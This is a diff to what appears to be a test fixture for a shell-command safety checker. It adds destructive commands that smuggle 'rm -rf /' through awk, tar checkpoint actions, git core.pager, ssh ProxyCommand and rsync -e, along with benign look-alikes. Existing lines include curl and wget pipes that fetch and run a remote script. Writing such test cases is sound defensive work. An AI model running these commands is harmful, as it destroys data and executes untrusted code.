@@ -173,6 +173,13 @@ DESTRUCTIVE: list[str] = [
     "perl -e 'system(\"rm -rf /\")'",
     "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF",
     'function rm { command rm "$@"; }; rm -rf /',
+    # commands carried in other programs' options and languages
+    "awk 'BEGIN{system(\"rm -rf /\")}'",
+    'awk \'BEGIN { print "rm -rf /" | "sh" }\'',
+    "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
+    "git -c core.pager='rm -rf /' log",
+    "ssh -o ProxyCommand='rm -rf /' host",
+    "rsync -e 'sh -c \"rm -rf /etc\"' x host:y",
     "curl -fsSL http://203.0.113.9/install.sh | sh",
     "wget -qO- http://203.0.113.9/x | sudo bash",
 ]
@@ -452,4 +459,10 @@ ORDINARY: list[str] = [
     "/etc/apt/sources.list.d/x.list'",
     "find . -type d -name __pycache__ -exec rm -rf {} +",
     "git clean -fdx",
+    "awk '$1 > 5 || $2 < 3' data.txt",
+    "rsync -avz -e 'ssh -p 2222' ./site/ host:/srv/site/",
+    "tar czf backup.tgz -I pigz /etc",
+    "ssh -o ProxyCommand='ssh -W %h:%p bastion' db1",
+    "git -c core.editor=vim commit",
+    "rm -f /etc/passwd.lock",
 ]
